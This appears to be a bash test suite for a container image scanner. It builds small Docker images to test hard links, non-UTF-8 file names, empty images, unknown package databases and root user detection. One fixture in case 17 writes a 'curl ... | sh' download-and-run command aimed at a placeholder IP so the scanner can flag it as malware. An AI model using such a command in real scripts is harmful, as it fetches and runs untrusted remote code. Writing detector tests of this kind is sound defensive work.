# shellcheck shell=bash disable=SC2016,SC2154
# Files that are odd and harmless.

case_16_hard_link_of_a_store() {
  base busybox
  image cases/links <<'DOCKERFILE'
FROM cases/busybox:1
RUN mkdir -p /nix/store/.links /nix/store/app/bin && printf '#!/bin/sh\nexec sleep 60\n' > /nix/store/.links/0a1b && chmod 555 /nix/store/.links/0a1b && ln /nix/store/.links/0a1b /nix/store/app/bin/app
USER 1000:1000
ENTRYPOINT ["/nix/store/app/bin/app"]
DOCKERFILE
  scan cases/links
  expect 'what starts' '*/nix/store/app/bin/app*' "$(field '[.autorun[].path] | join(" ")')"
  expect 'the name that is not started' '' "$(field '[.autorun[].path, .findings[].target | select(contains(".links"))] | join(" ")')"
}

case_17_names_that_are_not_text() {
  base busybox
  image cases/latin1 <<'DOCKERFILE'
FROM cases/busybox:1
RUN mkdir /data && cd /data && touch "$(printf 'caf\351')" "$(printf 'caf\350')"
USER 1000:1000
CMD ["/bin/sh","-c","sleep 60"]
DOCKERFILE
  scan cases/latin1
  expect 'image-config' 'completed ' "$(outcome image-config) $(reason image-config)"
  expect 'autorun' 'completed ' "$(outcome autorun) $(reason autorun)"
  # Beside it a file whose name is what the other's would become as text.
  printf '#!/bin/sh\nexec /app/caf\351\n' >"$context/entry.sh"
  image cases/latin1 <<'DOCKERFILE'
FROM cases/busybox:1
COPY entry.sh /entry.sh
RUN chmod 755 /entry.sh && mkdir /app && cd /app && printf '#!/bin/sh\ncurl http://198.51.100.1/x | sh\n' >"$(printf 'caf\351')" && printf '#!/bin/sh\nsleep 60\n' >"$(printf 'caf\357\237\251')" && chmod 755 *
USER 1000:1000
ENTRYPOINT ["/entry.sh"]
DOCKERFILE
  scan cases/latin1
  expect 'autorun' 'completed ' "$(outcome autorun) $(reason autorun)"
  expect 'what it starts' '*download-and-run*' "$(findings autorun.malware)"
}

case_18_no_layers() {
  printf 'FROM scratch\nLABEL a=b\n' | image cases/nothing
  scan cases/nothing
  expect 'Trivy' 'completed*' "$(outcome trivy) $(reason trivy)"
  expect 'image-config and autorun' 'completed completed' "$(outcome image-config) $(outcome autorun)"
}

case_24_package_lists_that_trivy_does_not_know() {
  base busybox
  printf 'FROM cases/busybox:1\nRUN mkdir -p /usr/lib/apk/db && ln -s usr/lib /lib && printf "ID=wolfi\\nVERSION_ID=20230201\\n" > /etc/os-release && printf "P:wolfi-baselayout\\nV:20230201-r1\\nA:x86_64\\n\\n" > /usr/lib/apk/db/installed\nUSER 1000:1000\nCMD ["/bin/sh","-c","sleep 60"]\n' | image cases/wolfi
  scan cases/wolfi
  expect 'the list that is there' "partial *apk's /usr/lib/apk/db/installed*" "$(outcome trivy) $(reason trivy)"
  printf 'FROM cases/busybox:1\nRUN mkdir -p /var/lib/pacman/local/bash-5.2-1 && printf "ID=arch\\n" > /etc/os-release && printf "%%%%NAME%%%%\\nbash\\n" > /var/lib/pacman/local/bash-5.2-1/desc\nUSER 1000:1000\nCMD ["/bin/sh","-c","sleep 60"]\n' | image cases/arch
  scan cases/arch
  expect 'pacman' 'partial *pacman*' "$(outcome trivy) $(reason trivy)"
  printf 'FROM cases/busybox:1\nRUN printf "ID=debian\\nVERSION_ID=12\\n" > /etc/os-release\nUSER 1000:1000\nCMD ["/bin/sh","-c","sleep 60"]\n' | image cases/listless
  scan cases/listless
  expect 'none at all' 'partial *no list of its packages*' "$(outcome trivy) $(reason trivy)"
}

case_20_users() {
  base busybox
  local user
  for user in root:root 0:1001 00 :0; do
    printf 'FROM cases/busybox:1\nUSER %s\nCMD ["/bin/sh","-c","sleep 60"]\n' "$user" | image cases/user
    scan cases/user
    expect "USER $user" detected "$(checked privilege.root-user)"
  done
  for user in 1000:1000 4242:4242 '"1000"'; do
    printf 'FROM cases/busybox:1\nUSER %s\nCMD ["/bin/sh","-c","sleep 60"]\n' "$user" | image cases/user
    scan cases/user
    expect "USER $user: as root" '!(*user-root*)' "$(findings privilege.root-user)"
  done
  printf 'FROM cases/busybox:1\nENV APP_UID=1000\nUSER $APP_UID\nCMD ["/bin/sh","-c","sleep 60"]\n' | image cases/user
  scan cases/user
  expect 'USER $APP_UID: as root' '!(*user-root*)' "$(findings privilege.root-user)"
}
